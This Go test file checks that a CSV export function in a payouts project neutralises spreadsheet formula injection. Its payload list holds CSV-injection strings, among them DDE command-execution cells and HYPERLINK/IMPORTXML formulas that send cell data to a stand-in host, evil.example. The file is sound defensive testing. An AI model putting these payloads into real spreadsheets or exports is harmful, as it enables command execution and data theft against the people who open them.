package edge_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"cambodia-payouts/pkg/edge"
)

// starters begin a formula in some spreadsheet.
const starters = "=+-@|%＝＋－＠﹦﹢﹣﹫−\t\r\n"

// payloads are cells by which somebody has tried to run a formula in a reader's
// spreadsheet.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "|calc", "%0A=1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "−1+1",
	";=1+1", "x;=1+1", "x,=1+1", "x\t=1+1", "x|=1+1", "x|cmd", "x:=1", "x\n=1+1", "x\r\n=1+1", "x\r=1+1", "x ;=1+1", "x; =1+1", `x";=1+1`, `";=1+1;"`, `",=1+1,"`, `""=1`, `"=1+1"`,
	"'=1+1", "''=1+1", "x;'=1+1", "';=1+1", "==1", "=-1", "a'=1", `=HYPERLINK("https://evil.example/?"&A1,"x")`, "x;＝1+1", "x;＋cmd", "x|＠SUM(1)",
	`=IMPORTXML("https://evil.example","//a")`, "=DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'x'!A", "x;+1;-1;@1", "-", "=", "'", "",
}

// readBack is the rule of docs/operating.md: an apostrophe at the start of a cell, or
// behind anything but a letter or a digit, is taken away, and the character behind it
// stays.
func readBack(cell string) string {
	var out strings.Builder
	before, runes := ' ', []rune(cell)
	for i := 0; i < len(runes); i++ {
		if open := !unicode.IsLetter(before) && !unicode.IsDigit(before); open && runes[i] == '\'' && i+1 < len(runes) {
			i++
		}
		out.WriteRune(runes[i])
		before = runes[i]
	}
	return out.String()
}

// dangers lists the cells that a program would run that splits the sheet at a separator,
// with quotes or without.
func dangers(sheet string, separator rune) []string {
	var cells []string
	r := csv.NewReader(strings.NewReader(sheet))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
	for {
		record, err := r.Read()
		if err != nil {
			break
		}
		cells = append(cells, record...)
	}
	for line := range strings.Lines(strings.ReplaceAll(sheet, "\r", "\n")) {
		cells = append(cells, strings.Split(line, string(separator))...)
	}
	return slices.DeleteFunc(cells, func(cell string) bool {
		cell = strings.TrimFunc(strings.TrimSuffix(cell, "\n"), func(r rune) bool {
			return r == '"' || unicode.IsSpace(r) && !strings.ContainsRune("\t\r\n", r) || unicode.Is(unicode.Cf, r)
		})
		first, _ := utf8.DecodeRuneInString(cell)
		return cell == "" || !strings.ContainsRune(starters, first)
	})
}

var separators = []rune{',', ';', '\t', '|', ':', ' '}

func TestNoCellIsAFormulaWhateverTheSeparator(t *testing.T) {
	for _, payload := range payloads {
		sheet := edge.Sheet([][]string{{"kind", "x"}, {payload, "VX-1"}, {"a", payload}})
		for _, separator := range separators {
			if found := dangers(sheet, separator); len(found) > 0 {
				t.Errorf("%q with %q between the cells runs %q:\n%s", payload, separator, found, sheet)
			}
		}
	}
}

func TestASheetReadsBackAsTheSameValues(t *testing.T) {
	for _, payload := range append(payloads, "50000.00", "2026-05-16", "VX-1", "P:1_2.3", "don't", "Failed, sorry", "ភាសាខ្មែរ", "a\nb") {
		rows, err := csv.NewReader(strings.NewReader(edge.Sheet([][]string{{payload, "x"}}))).ReadAll()
		if err != nil || len(rows) != 1 || readBack(rows[0][0]) != payload || rows[0][1] != "x" {
			t.Errorf("%q reads back as %q, %v", payload, rows, err)
		}
	}
}

func TestUsualValuesAreWrittenAsTheyAre(t *testing.T) {
	const want = `"50000.00","2026-05-16","VX-1","still_open","P:1_2.3","true","a ""b"""` + "\n"
	if got := edge.Sheet([][]string{{"50000.00", "2026-05-16", "VX-1", "still_open", "P:1_2.3", "true", `a "b"`}}); got != want {
		t.Errorf("%s", got)
	}
}

func FuzzNoCellIsAFormula(f *testing.F) {
	for _, payload := range payloads {
		f.Add(payload)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		if !utf8.ValidString(cell) {
			t.Skip("reports are UTF-8")
		}
		sheet := edge.Sheet([][]string{{cell, "x"}})
		for _, separator := range separators {
			if found := dangers(sheet, separator); len(found) > 0 {
				t.Errorf("%q with %q: %q", cell, separator, found)
			}
		}
		rows, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
		if err != nil || len(rows) != 1 || readBack(rows[0][0]) != cell {
			t.Errorf("%q reads back as %q, %v", cell, rows, err)
		}
	})
}
